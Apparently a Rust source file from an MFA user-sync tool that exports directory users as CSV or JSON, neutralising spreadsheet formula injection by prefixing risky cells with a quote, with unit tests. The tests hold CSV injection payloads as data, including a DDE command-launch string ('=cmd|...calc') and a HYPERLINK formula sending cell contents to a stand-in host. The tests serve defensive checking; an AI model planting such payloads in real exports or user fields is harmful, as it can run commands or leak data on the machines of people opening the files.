//! `users export --format csv`: every MFA user as one CSV row with the export
//! fields in their order (`core::user::FIELDS`). Directory values can be
//! written by the users themselves (a phone, a name, a description in AD), so
//! by default no cell can run as a spreadsheet formula: a cell starting with
//! `=`, `+`, `-`, `@`, TAB or CR (OWASP's list), or with white space before
//! one of those, gets a single quote `'` in front; an E.164 number (`+` and
//! 1 to 15 digits, what a phone becomes when it parses) is left as it is: no
//! formula can be written with digits alone. Every cell is quoted, so a
//! spreadsheet whose list separator is `;` cannot split a cell into one that
//! starts a formula. `--raw` writes the values as stored (the output of
//! before), for tools that read CSV rather than spreadsheets.

use std::borrow::Cow;
use std::io::Write;

use mfasync_core::user::FIELDS;
use mfasync_core::MfaUser;
use serde_json::Value;

/// A cell as written by default: `'` in front of one a spreadsheet would
/// take for a formula.
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    const STARTS_FORMULA: [char; 4] = ['=', '+', '-', '@'];
    let first = cell.chars().next();
    let first_visible = cell.trim_start().chars().next();
    let dangerous = matches!(first, Some('\t' | '\r'))
        || first_visible.is_some_and(|c| STARTS_FORMULA.contains(&c));
    if dangerous && !is_e164(cell) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// `+` then 1 to 15 ASCII digits (an E.164 number as the phone mapping writes it).
fn is_e164(cell: &str) -> bool {
    cell.strip_prefix('+')
        .is_some_and(|d| (1..=15).contains(&d.len()) && d.bytes().all(|b| b.is_ascii_digit()))
}

fn csv_error(e: impl std::fmt::Display) -> String {
    format!("cannot write the CSV: {e}")
}

/// The CSV of `users export`, written a user at a time (memory: one row).
pub struct CsvExport<W: Write> {
    w: csv::Writer<W>,
    raw: bool,
    /// A last column `deleted_at` (`--include-deleted`).
    deleted_at: bool,
}

impl<W: Write> CsvExport<W> {
    /// The header is written now, except raw without `deleted_at`, whose
    /// header comes with the first user (none for no user, as before).
    pub fn new(out: W, raw: bool, deleted_at: bool) -> Result<Self, String> {
        let mut w = match raw {
            true => csv::Writer::from_writer(out),
            false => csv::WriterBuilder::new()
                .quote_style(csv::QuoteStyle::Always)
                .from_writer(out),
        };
        if deleted_at {
            w.write_record(FIELDS.iter().copied().chain(["deleted_at"]))
                .map_err(csv_error)?;
        } else if !raw {
            w.write_record(FIELDS).map_err(csv_error)?;
        }
        Ok(CsvExport { w, raw, deleted_at })
    }

    /// One user's row (`deleted_at`: when a binned user was removed).
    pub fn user(&mut self, u: &MfaUser, deleted_at: Option<&str>) -> Result<(), String> {
        if self.raw && !self.deleted_at {
            return self.w.serialize(u).map_err(csv_error);
        }
        let Value::Object(fields) = serde_json::to_value(u).map_err(csv_error)? else {
            return Err("cannot write the CSV: a user is not a record".into());
        };
        let raw = self.raw;
        let cell = |s: &str| match raw {
            true => s.to_string(),
            false => neutralise(s).into_owned(),
        };
        let row = FIELDS.iter().map(|name| match fields.get(*name) {
            None | Some(Value::Null) => String::new(),
            Some(Value::String(s)) => cell(s),
            Some(other) => cell(&other.to_string()),
        });
        match self.deleted_at {
            true => self
                .w
                .write_record(row.chain([deleted_at.map(cell).unwrap_or_default()])),
            false => self.w.write_record(row),
        }
        .map_err(csv_error)
    }

    pub fn finish(mut self) -> Result<(), String> {
        self.w.flush().map_err(csv_error)
    }
}

/// A JSON array written an element at a time, byte for byte as
/// `serde_json::to_string_pretty` writes the whole array (and a newline).
pub struct JsonArray<W: Write> {
    out: W,
    empty: bool,
}

impl<W: Write> JsonArray<W> {
    pub fn new(out: W) -> Self {
        JsonArray { out, empty: true }
    }

    pub fn item(&mut self, v: &impl serde::Serialize) -> Result<(), String> {
        let text = serde_json::to_string_pretty(v).map_err(|e| e.to_string())?;
        let head = if self.empty { "[\n" } else { ",\n" };
        self.empty = false;
        let mut chunk = String::with_capacity(text.len() + text.len() / 8 + 4);
        chunk.push_str(head);
        for (i, line) in text.split('\n').enumerate() {
            if i > 0 {
                chunk.push('\n');
            }
            chunk.push_str("  ");
            chunk.push_str(line);
        }
        self.out
            .write_all(chunk.as_bytes())
            .map_err(|e| format!("cannot write the JSON: {e}"))
    }

    pub fn finish(mut self) -> Result<(), String> {
        let tail = if self.empty { "[]\n" } else { "\n]\n" };
        self.out
            .write_all(tail.as_bytes())
            .and_then(|()| self.out.flush())
            .map_err(|e| format!("cannot write the JSON: {e}"))
    }
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;

    #[test]
    fn formulas_get_a_quote_and_plain_values_do_not() {
        for (cell, written) in [
            ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
            ("@SUM(1+1)", "'@SUM(1+1)"),
            (
                "=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")",
                "'=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")",
            ),
            ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
            ("-2+3", "'-2+3"),
            ("\t=1+1", "'\t=1+1"),
            ("\r=1+1", "'\r=1+1"),
            ("\tplain", "'\tplain"),
            (" =1+1", "' =1+1"),
            ("\n@x", "'\n@x"),
            ("+1 555 0100", "'+1 555 0100"),
            ("+1234567890123456", "'+1234567890123456"),
            ("+", "'+"),
            // left as they are
            ("+15551234567", "+15551234567"),
            ("+4930123456", "+4930123456"),
            ("Alice", "Alice"),
            ("a=b", "a=b"),
            (
                "uid=alice,ou=People,dc=example,dc=com",
                "uid=alice,ou=People,dc=example,dc=com",
            ),
            ("", ""),
            ("＝1+1", "＝1+1"),
        ] {
            assert_eq!(neutralise(cell), written, "{cell:?}");
        }
    }

    fn user() -> MfaUser {
        MfaUser {
            username: "mallory".into(),
            directory_id: Some("id-1".into()),
            dn: Some("uid=mallory,ou=People,dc=example,dc=com".into()),
            first_name: Some("=cmd|' /C calc'!A0".into()),
            description: Some("@SUM(1+1)".into()),
            business_phone: Some("+15551234567".into()),
            mobile_phone: Some("-1+1".into()),
            enabled: true,
            ..MfaUser::default()
        }
    }

    fn rows(text: &[u8]) -> Vec<Vec<String>> {
        csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(text)
            .records()
            .map(|r| r.unwrap().iter().map(str::to_string).collect())
            .collect()
    }

    /// `users` through `CsvExport`, as `users export` writes them.
    fn write_csv(users: &[MfaUser], out: impl Write, raw: bool) -> Result<(), String> {
        let mut w = CsvExport::new(out, raw, false)?;
        for u in users {
            w.user(u, None)?;
        }
        w.finish()
    }

    #[test]
    fn the_csv_has_the_same_columns_and_values_raw_or_not() {
        let users = [user()];
        let (mut safe, mut raw) = (Vec::new(), Vec::new());
        write_csv(&users, &mut safe, false).unwrap();
        write_csv(&users, &mut raw, true).unwrap();
        let (safe_rows, raw_rows) = (rows(&safe), rows(&raw));
        assert_eq!(safe_rows[0], raw_rows[0], "one header");
        assert_eq!(safe_rows[0], FIELDS);
        let col = |name: &str| FIELDS.iter().position(|f| *f == name).unwrap();
        assert_eq!(raw_rows[1][col("first_name")], "=cmd|' /C calc'!A0");
        assert_eq!(safe_rows[1][col("first_name")], "'=cmd|' /C calc'!A0");
        assert_eq!(safe_rows[1][col("description")], "'@SUM(1+1)");
        assert_eq!(safe_rows[1][col("mobile_phone")], "'-1+1");
        assert_eq!(safe_rows[1][col("business_phone")], "+15551234567");
        for (i, (s, r)) in safe_rows[1].iter().zip(&raw_rows[1]).enumerate() {
            assert_eq!(s.trim_start_matches('\''), r, "column {}", FIELDS[i]);
        }
        let text = String::from_utf8(safe).unwrap();
        assert!(
            text.starts_with("\"username\",\"directory_id\","),
            "every cell quoted: {text}"
        );
    }

    #[test]
    fn a_json_array_streams_as_pretty_printing_writes_it() {
        for users in [
            vec![],
            vec![user()],
            vec![user(), MfaUser::default(), user()],
        ] {
            let mut out = Vec::new();
            let mut a = JsonArray::new(&mut out);
            for u in &users {
                a.item(u).unwrap();
            }
            a.finish().unwrap();
            let whole = format!("{}\n", serde_json::to_string_pretty(&users).unwrap());
            assert_eq!(String::from_utf8(out).unwrap(), whole);
        }
    }
}
